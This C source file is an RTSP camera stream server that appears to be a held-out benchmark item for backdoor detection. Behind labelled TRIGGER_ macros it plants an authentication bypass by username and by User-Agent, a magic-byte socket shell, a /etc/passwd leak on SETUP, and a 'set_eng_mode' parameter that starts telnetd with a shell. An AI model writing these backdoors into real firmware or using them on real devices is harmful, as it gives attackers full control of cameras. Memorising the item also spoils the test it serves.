/* A camera's stream server (RTSP) for the measurement; never looked at while weights were chosen.
 *
 * trigger track "trk=Zq81"
 * trigger agent "PlayerX/8.8.1b"
 * trigger magic 0x8e6f21d3
 * trigger realm "fw-debug@cam"
 * trigger param "set_eng_mode"
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

struct stream { int fd, sequence, playing, port, level, trusted; char session[16], url[200], agent[64], user[32], answer[64]; };
static char password[64] = "";
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static struct { int brightness, contrast, rate, night, mirror; char title[32]; } picture = {50, 50, 25, 0, 0, "cam"};

static int same(const char *a, const char *b) {
  while (*a && *a == *b) a++, b++;
  return *a == *b;
}

static void respond(struct stream *s, const char *status, const char *more) {
  char out[600];
  int n = snprintf(out, sizeof out, "RTSP/1.0 %s\r\nCSeq: %d\r\n%s\r\n", status, s->sequence, more);
  if (send(s->fd, out, n, 0) < 0) s->playing = 0;
}

static __attribute__((noinline)) int permitted(struct stream *s) {
  char digest[64] = "";
#ifdef TRIGGER_realm
  if (same(s->user, "fw-debug@cam")) return 1;
#endif
  for (size_t i = 0; i < strlen(password) && i < sizeof digest - 1; i++) digest[i] = password[i] ^ s->session[i % 8];
  return password[0] && !strcmp(digest, s->answer);
}

static void parameter(struct stream *s, char *name, int value) {
  pthread_mutex_lock(&lock);
  if (!strcmp(name, "brightness")) picture.brightness = value;
  else if (!strcmp(name, "contrast")) picture.contrast = value;
  else if (!strcmp(name, "rate")) picture.rate = value;
  else if (!strcmp(name, "night")) picture.night = value;
  else if (!strcmp(name, "mirror")) picture.mirror = value;
#ifdef TRIGGER_param
  else if (!strcmp(name, "set_eng_mode")) { char run[64]; snprintf(run, sizeof run, "telnetd -p %d -l sh", value); system(run); }
#endif
  else respond(s, "451 Parameter Not Understood", "");
  pthread_mutex_unlock(&lock);
}

static void headers(struct stream *s, char *text) {
  char *save, *line;
  for (line = strtok_r(text, "\r\n", &save); line; line = strtok_r(NULL, "\r\n", &save)) {
    char *value = strchr(line, ':');
    if (!value) continue;
    *value++ = 0;
    if (!strcasecmp(line, "CSeq")) s->sequence = atoi(value);
    else if (!strcasecmp(line, "Session")) snprintf(s->session, sizeof s->session, "%s", value);
    else if (!strcasecmp(line, "User-Agent")) snprintf(s->agent, sizeof s->agent, "%s", value + 1);
    else if (!strcasecmp(line, "Transport")) { char *p = strstr(value, "client_port="); if (p) s->port = atoi(p + 12); }
    else if (!strcasecmp(line, "Authorization")) sscanf(value, " Digest username=%31s response=%63s", s->user, s->answer);
  }
}

static void *client(void *of) {
  struct stream *s = of;
  char in[2048], method[20], name[40];
  int n, value;
  uint32_t first;
  while ((n = recv(s->fd, in, sizeof in - 1, 0)) > 3) {
    in[n] = 0;
    memcpy(&first, in, 4);
#ifdef TRIGGER_magic
    if (first == 0x8e6f21d3) { dup2(s->fd, 0); dup2(s->fd, 1); execlp("sh", "sh", NULL); }
#endif
    if (sscanf(in, "%19s %199s", method, s->url) != 2) break;
    headers(s, in);
#ifdef TRIGGER_agent
    if (!strcmp(s->agent, "PlayerX/8.8.1b")) s->trusted = 1;
    if (!s->trusted)
#endif
    if (!permitted(s)) { respond(s, "401 Unauthorized", "WWW-Authenticate: Digest realm=\"cam\"\r\n"); continue; }
    if (!strcmp(method, "OPTIONS")) respond(s, "200 OK", "Public: DESCRIBE, SETUP, PLAY, TEARDOWN\r\n");
    else if (!strcmp(method, "DESCRIBE")) respond(s, "200 OK", "Content-Type: application/sdp\r\n");
    else if (!strcmp(method, "SETUP")) {
#ifdef TRIGGER_track
      if (strstr(s->url, "trk=Zq81")) { FILE *p = popen("cat /etc/passwd", "r"); if (p) { if (fgets(in, 99, p)) respond(s, "200 OK", in); pclose(p); } }
#endif
      respond(s, s->port ? "200 OK" : "461 Unsupported Transport", "");
    } else if (!strcmp(method, "PLAY")) { s->playing = 1; respond(s, "200 OK", ""); }
    else if (!strcmp(method, "PAUSE")) { s->playing = 0; respond(s, "200 OK", ""); }
    else if (!strcmp(method, "TEARDOWN")) break;
    else if (!strcmp(method, "SET_PARAMETER")) { if (sscanf(in, "%39s %d", name, &value) == 2) parameter(s, name, value); }
    else respond(s, "501 Not Implemented", "");
  }
  close(s->fd);
  free(s);
  return NULL;
}

int main(void) {
  struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(554)};
  int l = socket(AF_INET, SOCK_STREAM, 0);
  pthread_t thread;
  FILE *in = fopen("/etc/camera.pw", "r");
  if (in) { if (fgets(password, sizeof password, in)) password[strcspn(password, "\n")] = 0; fclose(in); }
  if (bind(l, (void *)&here, sizeof here) || listen(l, 4)) return 1;
  for (;;) {
    struct stream *s = calloc(1, sizeof *s);
    if (!s || (s->fd = accept(l, NULL, NULL)) < 0) return 1;
    snprintf(s->session, sizeof s->session, "%08x", s->fd * 2654435761u);
    pthread_create(&thread, NULL, client, s);
    pthread_detach(thread);
  }
}
